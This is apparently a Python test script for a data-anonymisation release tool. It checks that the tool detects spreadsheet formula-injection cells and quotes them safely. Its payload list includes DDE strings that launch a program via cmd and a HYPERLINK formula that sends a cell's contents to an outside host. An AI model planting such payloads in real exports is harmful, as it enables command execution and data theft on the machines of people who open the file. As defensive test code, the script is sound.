#!/usr/bin/env python3
"""run_formulas.py -- somebody wrote formulas into cells of the table, which is later opened in a spreadsheet: the release
carries them to whoever reads it. The tool must count them per column, and nothing else: negative numbers and dashes
are none. Where it can quote them, none is left, and different cells stay different."""
import random
import re

import attack

ROLES = {"age": "quasi", "town": "quasi", "remark": "insensitive", "balance": "sensitive"}
FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1,\"ok\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
            "\t=1+1", "=1+1", "'=1+1"]
HARMLESS = ["-5", "+49 30 123", "-1,234.5e-3", "-12 %", "-", "--", "=", "'quoted'", "fine", "a=b"]


def runs(cell):
    """What a spreadsheet would run, in the words of OWASP less numbers and marks."""
    return bool(re.match(r"[=+\-@\t\r].*[0-9A-Za-z]", cell, re.S)) and not re.fullmatch(r"[+-][0-9.,eE% +-]*", cell) \
        or bool(re.match(r"[=@].*[0-9A-Za-z]", cell, re.S))


def main():
    rng = random.Random(6)
    rows = [[rng.randrange(20, 70), rng.choice(["=Ulm", "Bonn"]),
             rng.choice(FORMULAS if rng.random() < 0.1 else HARMLESS), rng.randrange(-900, 900)] for _ in range(1000)]
    expected = {name: sum(runs(row[i]) for row in rows) for i, name in enumerate(ROLES) if i in (1, 2)}
    released, report = attack.release(list(ROLES), rows, ROLES, ["-k", "5", "--suppression", "0", "--weight", "town=9"])
    for name, count in expected.items():
        told = attack.finding_of(report, "formula-cells", name)
        attack.require("%s: %d cells of the release run; the tool says %s" % (name, count, told),
                       sum(runs(row[name]) for row in released) == count == told)
    attack.require("no other column is named", len(attack.findings(report, "formula-cells")) == 2)
    if not attack.failures: # a tool that is silent has no such option
        quoted, report = attack.release(list(ROLES), rows, ROLES, ["-k", "5", "--suppression", "0", "--weight", "town=9",
                                                                   "--formulas", "quote", "--l-diversity", "2"])
        attack.require("quoted: %d cells of the release run, and it is silent"
                       % sum(runs(cell) for row in quoted for cell in row.values()),
                       not any(runs(cell) for row in quoted for cell in row.values())
                       and not attack.findings(report, "formula-cells"))
        attack.require("different cells stay different",
                       sorted(attack.groups(quoted, ["remark"]).values()) == sorted(attack.groups(released, ["remark"]).values()))
    attack.finish()


if __name__ == "__main__":
    main()
